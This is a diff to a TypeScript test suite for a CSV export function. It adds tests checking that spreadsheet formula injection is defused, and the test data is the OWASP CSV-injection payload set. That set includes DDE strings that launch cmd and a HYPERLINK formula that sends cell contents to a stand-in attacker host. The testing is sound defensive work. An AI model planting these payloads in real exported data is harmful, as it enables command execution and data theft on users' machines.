@@ -86,7 +86,27 @@ describe('toCsv', () => {
   });
 
   it('defuses text a spreadsheet would run as a formula but keeps negative numbers', () => {
-    expect(toCsv([{ note: '=HYPERLINK("x")', n: -0.5, s: '-0.5' }])).toBe('note,n,s\r\n"\'=HYPERLINK(""x"")",-0.5,-0.5\r\n');
+    expect(toCsv([{ note: '=HYPERLINK("x")', n: -0.5, s: '-0.5' }])).toBe('note,n,s\r\n"\'=HYPERLINK(""x"")",-0.5,\'-0.5\r\n');
+  });
+
+  // The payloads of OWASP's CSV Injection page, and the one that passed the old numeric exemption.
+  const payloads: [string, string][] = [
+    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")', '"\'=HYPERLINK(""http://evil.example/?leak=""&A1&A2,""Error: please click for further information"")"'],
+    ['=1+2";=1+2', '"\'=1+2"";=1+2"'],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', '"\'\r=1+1"'],
+  ];
+  it.each(payloads)('defuses the OWASP payload %j', (payload, cell) => {
+    expect(toCsv([{ note: payload }])).toBe(`note\r\n${cell}\r\n`);
+  });
+
+  it('writes numbers as numbers, negative ones included, and leaves other text alone', () => {
+    expect(toCsv([{ a: -1, b: -0.25, c: 0, d: 1e-7, e: 'x-1', f: 'a=b', g: true }])).toBe('a,b,c,d,e,f,g\r\n-1,-0.25,0,1e-7,x-1,a=b,true\r\n');
   });
 
   it('uses the given columns in order', () => {
